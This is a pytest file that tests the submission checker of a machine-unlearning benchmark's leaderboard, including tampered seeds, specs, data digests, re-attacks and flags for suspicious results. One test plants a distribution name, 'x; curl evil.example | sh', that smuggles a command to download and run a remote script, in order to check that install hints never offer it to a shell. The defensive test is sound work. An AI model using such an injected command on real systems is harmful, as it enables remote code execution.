"""What a submission must be before any reading of it is recomputed: complete, of the suite, on the verifier's data."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from submissions import QUICK, SCENARIO, edited, edited_reading, edited_record, read, record_file, tampered, write

from unlearnbench.api.errors import UnlearnBenchError
from unlearnbench.leaderboard.bounds import flags_of, outside_bands
from unlearnbench.leaderboard.completeness import check_against_suite
from unlearnbench.leaderboard.layout import SUBMISSION
from unlearnbench.leaderboard.read import read_submission
from unlearnbench.leaderboard.soundness import expected_spec
from unlearnbench.leaderboard.submission import Submission
from unlearnbench.leaderboard.suites import suite
from unlearnbench.registry import registry
from unlearnbench.spec import RunSpec

Change = Callable[[Path], None]
RULES = suite(QUICK)


def problems(folder: Path) -> list[UnlearnBenchError]:
    return check_against_suite(read_submission(folder), RULES, registry())


def only(found: list[UnlearnBenchError], code: str) -> UnlearnBenchError:
    """The one kind of problem that there is."""
    assert {problem.code for problem in found} == {code}, [str(problem) for problem in found]
    return found[0]


def dropped(*labels: tuple[str, int]) -> Change:
    """Runs taken out, with their files and their mention."""

    def change(folder: Path) -> None:
        document = read(folder / SUBMISSION)
        files = {record_file(folder, *label) for label in labels}
        document["runs"] = [run for run in document["runs"] if run["record"] not in files]
        used = {name for run in document["runs"] for kind in ("predictions", "weights") for name in run[kind].values()}
        for path in [*(folder / "predictions").iterdir(), *(folder / "weights").iterdir()]:
            if path.relative_to(folder).as_posix() not in used:
                path.unlink()
        for file in files:
            (folder / file).unlink()
        write(folder / SUBMISSION, document)

    return change


def in_all_records(edit: Callable[[dict[str, Any]], None]) -> Change:
    def change(folder: Path) -> None:
        for path in (folder / "records").iterdir():
            document = read(path)
            edit(document)
            write(path, document)

    return change


# -- the honest one ---------------------------------------------------------------------------------------------------


def test_an_honest_submission_has_no_problem_and_no_flag(small_submission: Path) -> None:
    submission = read_submission(small_submission)
    assert check_against_suite(submission, RULES, registry()) == []
    assert flags_of(submission, RULES) == []


def test_the_expected_spec_of_a_run_is_the_one_that_was_run(small_submission: Path) -> None:
    for run in read_submission(small_submission).runs:
        assert expected_spec(run, RULES, registry()).id == run.record.document["spec_id"]


def test_a_chain_with_parameters_of_its_own_is_expected_as_it_was_run(small_submission: Path) -> None:
    run = read_submission(small_submission).runs[0]
    part = RULES.part(SCENARIO)
    (spec, *_) = RULES.specs(
        part, ["saliency+finetune"], registry(), set={"saliency.density": 0.25, "finetune.epochs": 2}, threads=2
    )
    document = {**run.record.document, "spec": json.loads(json.dumps(spec.to_json()))}
    again = expected_spec(replace(run, record=replace(run.record, document=document)), RULES, registry())
    assert again == RunSpec.from_json(document["spec"])


# -- runs that are missing, doubled or foreign ------------------------------------------------------------------------


def test_a_seed_that_was_dropped_is_missed(small_submission: Path, tmp_path: Path) -> None:
    copy = tampered(small_submission, dropped(("finetune", 3)), tmp_path / "copy")
    assert "lacks seed 3" in str(only(problems(copy), "missing-seed"))
    assert "finetune on digits-cnn-class3/v1" in str(problems(copy)[0])


def test_a_diverged_run_cannot_be_left_out(small_submission: Path, tmp_path: Path) -> None:
    """Dropping it looks like any missing seed: the place where it was is empty, whatever its status had been."""

    def diverged(folder: Path) -> None:
        edited_record("identity", 1, "status", value="diverged")(folder)
        dropped(("identity", 1))(folder)

    found = only(problems(tampered(small_submission, diverged, tmp_path / "copy")), "missing-seed")
    assert "lacks seed 1" in found.message


def test_a_diverged_run_that_is_there_is_no_problem(small_submission: Path, tmp_path: Path) -> None:
    def diverged(folder: Path) -> None:
        error = {"code": "diverged", "where": "run", "message": "weights are not finite", "hint": ""}
        edited_record("finetune", 1, "status", value="diverged")(folder)
        edited_record("finetune", 1, "error", value=error)(folder)
        edited_record("finetune", 1, "models", "unlearned", 0, "finite", value=False)(folder)

    assert problems(tampered(small_submission, diverged, tmp_path / "copy")) == []


def test_a_scenario_may_be_left_out_but_not_come_from_elsewhere(small_submission: Path, tmp_path: Path) -> None:
    change = edited_record("finetune", 2, "spec", "scenario", value="fashion-cnn-class3/v1")
    found = problems(tampered(small_submission, change, tmp_path / "copy"))
    assert {problem.code for problem in found} == {"foreign-run", "missing-seed"}
    assert any(problem.where.endswith("spec.scenario") for problem in found)


def test_a_seed_twice_is_named(small_submission: Path, tmp_path: Path) -> None:
    """Another setting under the same seed: the better of two draws cannot be hidden among them."""

    def doubled(folder: Path) -> None:
        file = record_file(folder, "finetune", 0)
        document = read(folder / SUBMISSION)
        record = read(folder / file)
        record["spec"]["unlearner"]["params"]["epochs"] = 1
        record["id"] = "another"
        write(folder / "records/another.json", record)
        (run,) = [run for run in document["runs"] if run["record"] == file]
        document["runs"].append({**run, "id": "another", "record": "records/another.json"})
        write(folder / SUBMISSION, document)
        rename(folder, "another")

    def rename(folder: Path, old: str) -> None:
        """The id that the changed spec gives; digests are mended later."""
        document = read(folder / f"records/{old}.json")
        new = RunSpec.from_json(document["spec"]).run_id()
        document["id"] = new
        write(folder / f"records/{new}.json", document)
        (folder / f"records/{old}.json").unlink()
        text = (folder / SUBMISSION).read_text("utf-8").replace(f"records/{old}.json", f"records/{new}.json")
        (folder / SUBMISSION).write_text(text.replace(f'"{old}"', f'"{new}"'), "utf-8")

    found = problems(tampered(small_submission, doubled, tmp_path / "copy"))
    assert {problem.code for problem in found} == {"duplicate-run", "several-settings"}
    assert "seed 0 more than once" in str(next(problem for problem in found if problem.code == "duplicate-run"))


@pytest.mark.parametrize("part", ["train", "unlearn", "measure"])
def test_a_seed_outside_of_the_suite_is_foreign(small_submission: Path, tmp_path: Path, part: str) -> None:
    change = edited_record("identity", 4, "spec", "seeds", part, value=77)
    found = problems(tampered(small_submission, change, tmp_path / "copy"))
    assert "foreign-run" in {problem.code for problem in found}
    assert any(".json: spec.seeds." in problem.where for problem in found)


# -- specs, components, data ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "value", "field"),
    [
        (("spec", "recipe", "lr"), 0.1, "spec.recipe.lr"),
        (("spec", "recipe", "epochs"), 3, "spec.recipe.epochs"),
        (("spec", "dataset", "params", "split_seed"), 5, "spec.dataset.params.split_seed"),
        (("spec", "model", "params", "hidden"), 8, "spec.model.params.hidden"),
        (("spec", "requests", 0, "classes"), ["4"], "spec.requests[0].classes[0]"),
        (("spec", "validation"), 0.2, "spec.validation"),
        (("spec", "measures", 1, "params", "limit"), 50, "spec.measures[1].params.limit"),
        (("spec", "measures"), [{"name": "accuracy", "params": {}}], "spec.measures[1]"),
    ],
)  # fmt: skip
def test_every_field_that_a_suite_fixes_is_held_to_it(
    small_submission: Path, tmp_path: Path, path: tuple[str | int, ...], value: Any, field: str
) -> None:
    copy = tampered(small_submission, edited_record("finetune", 0, *path, value=value), tmp_path / "copy")
    found = [problem for problem in problems(copy) if problem.code == "other-spec"]
    assert [problem.where.partition(": ")[2] for problem in found] == [field]
    assert ".finetune.s0." in found[0].where


def test_an_unlearner_has_one_setting_for_a_scenario(small_submission: Path, tmp_path: Path) -> None:
    change = edited_record("finetune", 3, "spec", "unlearner", "params", "epochs", value=9)
    found = only(problems(tampered(small_submission, change, tmp_path / "copy")), "several-settings")
    assert found.where.endswith("spec.unlearner.params.epochs")


def test_a_parameter_that_the_unlearner_does_not_allow_is_refused(small_submission: Path, tmp_path: Path) -> None:
    def negative(document: dict[str, Any]) -> None:
        params = document["spec"]["unlearner"]["params"]
        params.update({name: -1 for name in ("epochs",) if name in params})

    change = in_all_records(negative)
    found = problems(tampered(small_submission, change, tmp_path / "copy"))
    assert len(found) == 5
    assert all(".finetune." in problem.where and "epochs" in str(problem) for problem in found)


def component(document: dict[str, Any], kind: str) -> dict[str, Any]:
    return next(each for each in document["components"] if each["kind"] == kind)


def test_another_version_of_a_component_is_named(small_submission: Path, tmp_path: Path) -> None:
    change = in_all_records(lambda d: component(d, "unlearner").update(version="9"))
    found = only(problems(tampered(small_submission, change, tmp_path / "copy")), "other-version")
    assert found.exit_code == 3
    assert found.where.endswith("components[2].version")
    assert "pip install unlearnbench" in found.hint


def test_a_plugin_that_is_not_there_is_named_with_what_to_install(small_submission: Path, tmp_path: Path) -> None:
    def foreign(document: dict[str, Any]) -> None:
        component(document, "unlearner").update(name="sorcery", distribution="unlearnbench-sorcery")

    copy = tampered(small_submission, in_all_records(foreign), tmp_path / "copy")
    found = next(problem for problem in problems(copy) if problem.code == "missing-plugin")
    assert found.exit_code == 3
    assert found.hint == "if you trust it: pip install unlearnbench-sorcery"


def test_what_is_no_name_of_a_distribution_is_not_offered_to_a_shell(small_submission: Path, tmp_path: Path) -> None:
    evil = "x; curl evil.example | sh"
    change = in_all_records(lambda d: component(d, "unlearner").update(distribution=evil))
    copy = tampered(small_submission, change, tmp_path / "copy")
    found = next(problem for problem in problems(copy) if problem.code == "missing-plugin")
    assert "pip" not in found.hint
    assert "curl" not in found.hint


def test_plugins_are_those_of_the_records(small_submission: Path, tmp_path: Path) -> None:
    def more(folder: Path) -> None:
        document = read(folder / SUBMISSION)
        document["plugins"].append({"distribution": "unlearnbench-sorcery", "version": "1"})
        write(folder / SUBMISSION, document)

    found = only(problems(tampered(small_submission, more, tmp_path / "copy")), "wrong-plugins")
    assert "unlearnbench-sorcery" in found.message
    assert found.where == "submission.json: plugins"


@pytest.mark.parametrize(
    ("path", "field"),
    [
        (("data", "train", "digest"), "data.train.digest"),
        (("data", "test", "digest"), "data.test.digest"),
        (("requests", 0, "digest"), "requests[0].digest"),
        (("requests", 0, "holdout_digest"), "requests[0].holdout_digest"),
    ],
)
def test_runs_on_other_data_than_the_verifiers_are_refused(
    small_submission: Path, tmp_path: Path, path: tuple[str | int, ...], field: str
) -> None:
    copy = tampered(small_submission, edited_record("identity", 2, *path, value="0" * 64), tmp_path / "copy")
    found = only(problems(copy), "other-data")
    assert found.where.partition(": ")[2] == field


def test_who_trained_and_what_took_part_follow_from_the_spec(small_submission: Path, tmp_path: Path) -> None:
    copy = tampered(small_submission, edited_record("identity", 2, "trainer", value="sisa"), tmp_path / "trainer")
    assert only(problems(copy), "wrong-record").where.endswith(": trainer")
    change = edited_record("identity", 2, "components", 0, "name", value="wine")
    copy = tampered(small_submission, change, tmp_path / "components")
    assert only(problems(copy), "wrong-record").where.endswith(": components[0].name")


def test_a_measure_cannot_be_called_timed_to_escape_comparison(small_submission: Path, tmp_path: Path) -> None:
    copy = tampered(small_submission, edited_record("finetune", 0, "measures", 0, "timed", value=True), tmp_path / "c")
    assert only(problems(copy), "wrong-record").where.endswith(": measures[0]")


# -- the head ---------------------------------------------------------------------------------------------------------


def test_tuning_beyond_the_budget_is_refused(small_submission: Path, tmp_path: Path) -> None:
    change = edited(SUBMISSION, "statement", "tuning", "settings", value=RULES.settings + 1)
    found = only(problems(tampered(small_submission, change, tmp_path / "copy")), "over-budget")
    assert found.where == "submission.json: statement.tuning.settings"


def test_a_suite_with_other_content_is_refused(small_submission: Path, tmp_path: Path) -> None:
    copy = tampered(small_submission, edited(SUBMISSION, "suite", "sha256", value="0" * 64), tmp_path / "copy")
    assert only(problems(copy), "other-suite").exit_code == 3


# -- re-attacks -------------------------------------------------------------------------------------------------------


def as_attack(folder: Path) -> None:
    document = read(folder / SUBMISSION)
    document.update(kind="re-attack", re_attacks="small")
    write(folder / SUBMISSION, document)
    in_all_records(with_yeom)(folder)


def with_yeom(document: dict[str, Any]) -> None:
    """The same run under one more measure, as far as specs tell."""
    found = registry().get("measure", "yeom").origin()
    document["spec"]["measures"].append({"name": "yeom", "params": {}})
    document["components"].append(found)
    document["measures"].append({"name": "yeom", "timed": False, "status": "ok", "message": "", "cpu_s": 0.0})


def attack(small_submission: Path, to: Path, also: Change = lambda folder: None) -> tuple[Submission, Submission]:
    def change(folder: Path) -> None:
        as_attack(folder)
        also(folder)
        document = read(folder / SUBMISSION)
        used = {
            (each["distribution"], each["distribution_version"])
            for path in (folder / "records").iterdir()
            for each in read(path)["components"]
        }
        document["plugins"] = [{"distribution": name, "version": version} for name, version in sorted(used)]
        write(folder / SUBMISSION, document)

    return read_submission(tampered(small_submission, change, to)), read_submission(small_submission)


def test_a_re_attack_may_have_other_measures_on_the_same_runs(small_submission: Path, tmp_path: Path) -> None:
    made, attacked = attack(small_submission, tmp_path / "attack")
    assert check_against_suite(made, RULES, registry(), attacked=attacked) == []


def test_a_re_attack_on_other_runs_is_refused(small_submission: Path, tmp_path: Path) -> None:
    def weaker(document: dict[str, Any]) -> None:
        if document["spec"]["unlearner"]["name"] == "finetune":
            document["spec"]["unlearner"]["params"]["epochs"] = 1

    made, attacked = attack(small_submission, tmp_path / "attack", in_all_records(weaker))
    found = check_against_suite(made, RULES, registry(), attacked=attacked)
    assert only(found, "other-runs").where.endswith(": spec")
    assert len(found) == 5


# -- bounds -----------------------------------------------------------------------------------------------------------


def test_an_original_outside_of_the_bands_is_refused(small_submission: Path, tmp_path: Path) -> None:
    def worse(folder: Path) -> None:
        for seed in RULES.seeds:
            edited_reading("finetune", seed, "accuracy.forget", 0.5, subject="original")(folder)

    found = only(problems(tampered(small_submission, worse, tmp_path / "copy")), "control-outside-band")
    assert "accuracy/accuracy.forget of original is 0.5" in found.message
    assert "finetune on digits-cnn-class3/v1" in found.where


def test_a_record_without_the_reading_of_a_band_is_outside_of_it(small_submission: Path, tmp_path: Path) -> None:
    def without(document: dict[str, Any]) -> None:
        document["readings"] = [r for r in document["readings"] if r["key"] != "accuracy.test"]

    found = [
        *outside_bands(read_submission(tampered(small_submission, in_all_records(without), tmp_path / "c")), RULES)
    ]
    assert {problem.message for problem in found} == {
        "original has no accuracy/accuracy.test", "gold has no accuracy/accuracy.test",
    }  # fmt: skip


def test_models_that_an_unlearner_trains_itself_are_flagged_where_others_are_refused(
    small_submission: Path, tmp_path: Path
) -> None:
    def own(folder: Path) -> None:
        in_all_records(lambda d: d.update(trainer=d["spec"]["unlearner"]["name"]))(folder)
        for seed in RULES.seeds:
            edited_reading("finetune", seed, "accuracy.forget", 0.5, subject="original")(folder)

    submission = read_submission(tampered(small_submission, own, tmp_path / "copy"))
    assert [*outside_bands(submission, RULES)] == []
    ((name, flag),) = flags_of(submission, RULES)
    assert (name, flag.scenario, flag.code) == ("finetune", SCENARIO, "outside-band")


def test_an_unlearned_model_that_is_gold_is_flagged(small_submission: Path, tmp_path: Path) -> None:
    def copied(folder: Path) -> None:
        for name in ("finetune", "identity"):
            file = record_file(folder, name, 0)
            document = read(folder / file)
            document["models"]["unlearned"] = document["models"]["gold"]
            write(folder / file, document)

    found = flags_of(read_submission(tampered(small_submission, copied, tmp_path / "copy")), RULES)
    assert [(name, flag.code) for name, flag in found] == [("finetune", "same-as-gold")]  # identity is a control
    assert "1 of 5 runs" in found[0][1].message


def test_what_is_nearer_to_gold_than_a_second_gold_is_flagged(small_submission: Path) -> None:
    submission = read_submission(small_submission)
    part = RULES.part(SCENARIO)

    def with_floor(floor: float) -> list[str]:
        floors = {"forgetting": floor, "utility": 10.0, "privacy": 0.0}
        rules = replace(RULES, parts=(replace(part, floor=floors),))
        return [f"{name} {flag.code} {flag.message.split()[0]}" for name, flag in flags_of(submission, rules)]

    assert with_floor(0.9) == ["finetune too-good forgetting"]  # utility is not looked at, identity is a control
    assert with_floor(0.0) == []


def test_runs_of_one_scenario_under_several_versions_of_torch_are_flagged(
    small_submission: Path, tmp_path: Path
) -> None:
    change = edited_record("finetune", 2, "environment", "packages", "torch", value="1.0")
    found = flags_of(read_submission(tampered(small_submission, change, tmp_path / "copy")), RULES)
    assert [(name, flag.code) for name, flag in found] == [("finetune", "other-environment")]
    assert "1.0" in found[0][1].message


def test_a_copy_of_the_fixture_is_what_is_changed(small_submission: Path, tmp_path: Path) -> None:
    """The shared submission must be as it was, or tests would depend on their order."""
    shutil.copytree(small_submission, tmp_path / "copy")
    assert problems(tmp_path / "copy") == problems(small_submission) == []
